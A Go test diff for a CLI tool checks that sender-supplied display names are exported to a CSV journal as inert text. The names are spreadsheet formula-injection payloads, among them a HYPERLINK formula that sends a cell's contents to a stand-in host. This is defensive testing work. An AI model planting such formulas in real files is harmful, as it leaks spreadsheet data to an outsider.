@@ -3,6 +3,7 @@ package cli_test
 import (
 	"bytes"
 	"encoding/csv"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -69,5 +70,39 @@ func TestJournalOpensInASpreadsheet(t *testing.T) {
 	}
 	if out := must(t, db, "acts", "--json"); !strings.HasPrefix(out, "[") {
 		t.Errorf("acts: %s", out)
+	}
+}
+
+// A sender controls the From display name: a name that a spreadsheet would
+// read as a formula reaches the journal's CSV as text.
+func TestJournalCSVCarriesNoFormula(t *testing.T) {
+	dir := t.TempDir()
+	db := filepath.Join(dir, "p.db")
+	names := []string{`=HYPERLINK("http://x/?"&A1,"click")`, "+7 SUM(A1)", "-2+3", "@SUM(A1:A9)"}
+	for i, n := range names {
+		must(t, db, "new", "--kind", "access", "--name", n, "--email", fmt.Sprintf("s%d@example.ru", i))
+	}
+	out := filepath.Join(dir, "journal.csv")
+	must(t, db, "journal", "--out", out)
+	b, _ := os.ReadFile(out)
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
+	if err != nil || len(recs) != len(names)+1 {
+		t.Fatalf("csv: %v, %d rows", err, len(recs))
+	}
+	seen := 0
+	for _, r := range recs[1:] {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a live formula: %q", cell)
+			}
+			for _, n := range names {
+				if cell == "'"+n {
+					seen++
+				}
+			}
+		}
+	}
+	if seen != len(names) {
+		t.Errorf("%d of %d names kept as text: %q", seen, len(names), recs)
 	}
 }
